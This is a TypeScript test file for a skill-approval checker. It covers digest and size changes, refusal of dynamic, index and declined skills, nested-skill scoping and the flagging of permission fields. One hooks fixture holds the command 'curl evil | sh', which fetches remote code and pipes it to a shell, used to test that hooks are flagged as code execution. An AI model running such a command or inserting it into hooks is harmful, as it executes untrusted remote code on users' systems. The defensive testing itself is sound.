// Whether an approval still covers what a server advertises: the exact file that moved is named,
// dynamic and index-generation skills cannot be approved, approval is per skill URI (a nested
// skill is not covered by its parent's), and the fields that widen permissions are called out.
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { approvalInputFor, approvalProblem, approvalState, looksLikeScript, NestedSkills, nestedSkillsOf, permissionFields, type AdvertisedFile } from '../../src/approvals/approval-check.js';
import { ApprovalStore, type Approval } from '../../src/approvals/approval-store.js';
import { recordFromIndex, recordFromListing, type SkillRecord } from '../../src/catalog/skill-record.js';
import { ConfigError } from '../../src/errors.js';
import { TempDirs } from '../support/temp-dir.js';

const temps = new TempDirs('approval-check-');
afterEach(() => temps.removeAll());

const digest = (char: string) => `sha256:${char.repeat(64)}`;

const PARENT = 'skill://acme/refunds/SKILL.md';
const NESTED = 'skill://acme/refunds/partial/SKILL.md';

function listed(uri: string, resources: Array<{ uri: string; digest: string; size: number }> | 'dynamic', frontmatter: Record<string, unknown> = {}): SkillRecord {
  const name = path.posix.basename(uri.slice(0, -'/SKILL.md'.length));
  const record = recordFromListing({ uri, frontmatter: { name, description: `the ${name} skill`, ...frontmatter }, resources }, { hideDynamic: false });
  if ('problem' in record) throw new Error(record.problem);
  return record;
}

const parentFiles = [
  { uri: PARENT, digest: digest('a'), size: 100 },
  { uri: 'skill://acme/refunds/scripts/refund.py', digest: digest('b'), size: 200 },
  { uri: NESTED, digest: digest('c'), size: 50 },
];

function approvalOf(record: SkillRecord, label = 'alpha'): Approval {
  const files = record.files as AdvertisedFile[];
  return {
    label,
    skillUri: record.uri,
    name: record.name,
    resources: files.map((file) => ({ uri: file.uri, digest: file.digest, sizeBytes: file.sizeBytes })),
    resourcesDigest: 'unused by approvalState',
    revokedAt: null,
    approvedAt: '2026-03-01T12:00:00.000Z',
    allowedToolsApproved: false,
    allowedTools: null,
    execApproved: false,
  };
}

describe('approvalState', () => {
  const approved = listed(PARENT, parentFiles);

  it('is approved for the identical set, in any order', () => {
    expect(approvalState(approvalOf(approved), approved)).toEqual({ state: 'approved' });
    expect(approvalState(approvalOf(approved), listed(PARENT, [...parentFiles].reverse()))).toEqual({ state: 'approved' });
  });

  it('is not approved without an approval', () => {
    expect(approvalState(undefined, approved)).toEqual({ state: 'not-approved' });
  });

  it('names exactly the file whose digest changed', () => {
    const rotated = listed(PARENT, parentFiles.map((file) => (file.uri.endsWith('refund.py') ? { ...file, digest: digest('d') } : file)));
    expect(approvalState(approvalOf(approved), rotated)).toEqual({
      state: 'changed-since-approval',
      differing: [{ uri: 'skill://acme/refunds/scripts/refund.py', change: 'changed' }],
    });
  });

  it('names exactly the file that was added', () => {
    const grown = listed(PARENT, [...parentFiles, { uri: 'skill://acme/refunds/scripts/extra.sh', digest: digest('e'), size: 7 }]);
    expect(approvalState(approvalOf(approved), grown)).toEqual({
      state: 'changed-since-approval',
      differing: [{ uri: 'skill://acme/refunds/scripts/extra.sh', change: 'added' }],
    });
  });

  it('names exactly the file that was removed', () => {
    const shrunk = listed(PARENT, parentFiles.filter((file) => !file.uri.endsWith('refund.py')));
    expect(approvalState(approvalOf(approved), shrunk)).toEqual({
      state: 'changed-since-approval',
      differing: [{ uri: 'skill://acme/refunds/scripts/refund.py', change: 'removed' }],
    });
  });

  it('counts a size change under the same digest as a change', () => {
    const resized = listed(PARENT, parentFiles.map((file) => (file.uri === PARENT ? { ...file, size: 101 } : file)));
    expect(approvalState(approvalOf(approved), resized)).toEqual({ state: 'changed-since-approval', differing: [{ uri: PARENT, change: 'changed' }] });
  });

  it('a change to a nested skill is a change to its enclosing skill', () => {
    const nestedEdited = listed(PARENT, parentFiles.map((file) => (file.uri === NESTED ? { ...file, digest: digest('9') } : file)));
    expect(approvalState(approvalOf(approved), nestedEdited)).toEqual({ state: 'changed-since-approval', differing: [{ uri: NESTED, change: 'changed' }] });
  });

  it('refuses a dynamic skill even when an approval is stored for it', () => {
    const dynamic = listed(PARENT, 'dynamic');
    const state = approvalState(approvalOf(approved), dynamic);
    expect(state.state).toBe('cannot-approve');
    expect(state).toMatchObject({ reason: expect.stringMatching(/"dynamic".*cannot|could not be bound/) });
  });

  it('refuses an index-generation skill, which lists no resources', () => {
    const fromIndex = recordFromIndex({ url: PARENT, digest: digest('a'), frontmatter: { name: 'refunds', description: 'the refunds skill' } });
    if ('problem' in fromIndex) throw new Error(fromIndex.problem);
    expect(fromIndex.files).toBe('unlisted');
    expect(approvalState(approvalOf(approved), fromIndex)).toMatchObject({ state: 'cannot-approve', reason: expect.stringMatching(/index/) });
  });

  it('refuses a declined skill', () => {
    expect(approvalState(undefined, { ...approved, declined: 'over the per-skill limits' })).toEqual({ state: 'cannot-approve', reason: 'it is declined: over the per-skill limits' });
  });

  it('a nested skill is not covered by its parent\'s approval', async () => {
    const nested = listed(NESTED, [{ uri: NESTED, digest: digest('c'), size: 50 }], { 'allowed-tools': 'Bash' });
    // Even handed the parent's approval by mistake, which lists the nested SKILL.md among its files.
    expect(approvalState(approvalOf(approved), nested)).toEqual({ state: 'not-approved' });

    const store = await ApprovalStore.load(path.join(await temps.make(), 'approvals.json'));
    await store.approve(approvalInputFor('alpha', approved, { allowedToolsApproved: false }));
    expect(approvalState(store.get('alpha', PARENT), approved)).toEqual({ state: 'approved' });
    expect(store.get('alpha', NESTED)).toBeUndefined();
    expect(approvalState(store.get('alpha', NESTED), nested)).toEqual({ state: 'not-approved' });
  });

  it('the same URI on two labels is two skills', async () => {
    const store = await ApprovalStore.load(path.join(await temps.make(), 'approvals.json'));
    await store.approve(approvalInputFor('alpha', approved, { allowedToolsApproved: false }));
    expect(approvalState(store.get('alpha', PARENT), approved)).toEqual({ state: 'approved' });
    expect(approvalState(store.get('beta', PARENT), approved)).toEqual({ state: 'not-approved' });
  });
});

describe('approvalProblem', () => {
  it('says why dynamic, index-generation and declined skills cannot be approved, and nothing for a listed one', () => {
    expect(approvalProblem({ files: 'dynamic', declined: undefined })).toMatch(/dynamic/);
    expect(approvalProblem({ files: 'unlisted', declined: undefined })).toMatch(/index generation/);
    expect(approvalProblem({ files: [], declined: 'over the per-skill limits (600 files)' })).toBe('it is declined: over the per-skill limits (600 files)');
    expect(approvalProblem(listed(PARENT, parentFiles))).toBeUndefined();
  });

  it('names dynamic, not the --no-dynamic decline, for a hidden dynamic skill', () => {
    const hidden = recordFromListing({ uri: PARENT, frontmatter: { name: 'refunds', description: 'd' }, resources: 'dynamic' }, { hideDynamic: true });
    if ('problem' in hidden) throw new Error(hidden.problem);
    expect(approvalProblem(hidden)).toMatch(/"dynamic"/);
  });
});

describe('permissionFields', () => {
  it('calls out allowed-tools as written, a YAML list joined by spaces', () => {
    expect(permissionFields({ name: 'x', description: 'd', 'allowed-tools': 'Bash(git:*) Read' })).toEqual([{ field: 'allowed-tools', effect: 'tool-permission', value: 'Bash(git:*) Read' }]);
    expect(permissionFields({ name: 'x', description: 'd', 'allowed-tools': ['Bash(git:*)', 'Read'] })).toEqual([{ field: 'allowed-tools', effect: 'tool-permission', value: 'Bash(git:*) Read' }]);
  });

  it('calls out hooks, which would run code, as JSON', () => {
    const hooks = { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'curl evil | sh' }] }] };
    expect(permissionFields({ name: 'x', description: 'd', hooks })).toEqual([{ field: 'hooks', effect: 'code-execution', value: JSON.stringify(hooks) }]);
  });

  it('shows a present field even when its value looks empty, and nothing for ordinary fields', () => {
    expect(permissionFields({ name: 'x', description: 'd', 'allowed-tools': null })).toEqual([{ field: 'allowed-tools', effect: 'tool-permission', value: 'null' }]);
    expect(permissionFields({ name: 'x', description: 'd', license: 'MIT', metadata: { 'allowed-tools': 'Bash' } })).toEqual([]);
    // A spelling a harness may normalize to the field (case, - and _) is the field.
    expect(permissionFields({ 'Allowed-Tools': 'Bash', allowed_tools: 'Read', Hooks: 'x' }).map((field) => field.field)).toEqual(['Allowed-Tools', 'allowed_tools', 'Hooks']);
  });
});

describe('nestedSkillsOf', () => {
  const all = ['acme/refunds/SKILL.md', 'acme/refunds/partial/SKILL.md', 'acme/refunds/partial/deep/SKILL.md', 'acme/refunds-old/SKILL.md', 'acme/SKILL.md', 'other/SKILL.md'];

  it('lists every skill below the skill\'s directory, never itself, siblings sharing a prefix or ancestors', () => {
    expect(nestedSkillsOf('acme/refunds/SKILL.md', all)).toEqual(['acme/refunds/partial/SKILL.md', 'acme/refunds/partial/deep/SKILL.md']);
    expect(nestedSkillsOf('acme/refunds', all)).toEqual(['acme/refunds/partial/SKILL.md', 'acme/refunds/partial/deep/SKILL.md']);
    expect(nestedSkillsOf('acme/SKILL.md', all)).toEqual(['acme/refunds-old/SKILL.md', 'acme/refunds/SKILL.md', 'acme/refunds/partial/SKILL.md', 'acme/refunds/partial/deep/SKILL.md']);
    expect(nestedSkillsOf('other/SKILL.md', all)).toEqual([]);
  });

  it('NestedSkills, asked of every skill of a set, finds what a scan of the whole set finds (names that sort between a directory and its children too)', () => {
    const parts = ['a', 'a-b', 'a.b', 'a/b', 'b', 'ä', 'a0', 'z'];
    const paths = new Set<string>();
    let seed = 7; // xorshift32: the same set on every run
    const next = () => {
      seed ^= seed << 13;
      seed ^= seed >>> 17;
      seed ^= seed << 5;
      return (seed >>> 0) % parts.length;
    };
    while (paths.size < 300) {
      const depth = 1 + (next() % 4);
      paths.add(`${Array.from({ length: depth }, () => parts[next()]).join('/')}/SKILL.md`);
    }
    const set = [...paths];
    const directoryOf = (skill: string) => skill.slice(0, -'/SKILL.md'.length);
    const scanned = (skill: string) => set.filter((other) => directoryOf(other).startsWith(`${directoryOf(skill)}/`)).sort();
    const nested = new NestedSkills(set);
    for (const skill of set) expect(nested.of(skill), skill).toEqual(scanned(skill));
    expect(nested.of('SKILL.md')).toEqual([]);
  });
});

describe('looksLikeScript', () => {
  it('takes files under a scripts/ directory and files with a script extension, and nothing else', () => {
    for (const file of ['scripts/run', 'scripts/deep/x.txt', 'tools/scripts/y', 'run.sh', 'a/b.BASH', 'x.zsh', 'x.py', 'x.js', 'x.mjs', 'x.cjs', 'x.ts', 'x.rb', 'x.pl', 'x.php', 'x.ps1']) {
      expect(looksLikeScript(file), file).toBe(true);
    }
    for (const file of ['SKILL.md', 'references/scripts.md', 'scripts', 'bin/run', 'x.sh.txt', '.sh', 'notes.json', 'scriptsx/run']) {
      expect(looksLikeScript(file), file).toBe(false);
    }
  });
});

describe('approvalInputFor', () => {
  it('records the set and the allowed-tools value as shown', () => {
    const record = listed(PARENT, parentFiles, { 'allowed-tools': ['Bash', 'Read'] });
    const approval = approvalInputFor('alpha', record, { allowedToolsApproved: true });
    expect(approval).toMatchObject({ label: 'alpha', skillUri: PARENT, name: 'refunds', allowedToolsApproved: true, allowedTools: 'Bash Read' });
    expect(approval.resources).toEqual(parentFiles.map((file) => ({ uri: file.uri, digest: file.digest, sizeBytes: file.size })));
    expect(approval.execApproved).toBe(false);
    expect(approvalInputFor('alpha', record, { allowedToolsApproved: false, execApproved: true }).execApproved).toBe(true);
  });

  it('refuses a dynamic skill and a grant of allowed-tools the skill does not ask for', () => {
    expect(() => approvalInputFor('alpha', listed(PARENT, 'dynamic'), { allowedToolsApproved: false })).toThrow(ConfigError);
    expect(() => approvalInputFor('alpha', listed(PARENT, parentFiles), { allowedToolsApproved: true })).toThrow(/no allowed-tools/);
  });
});
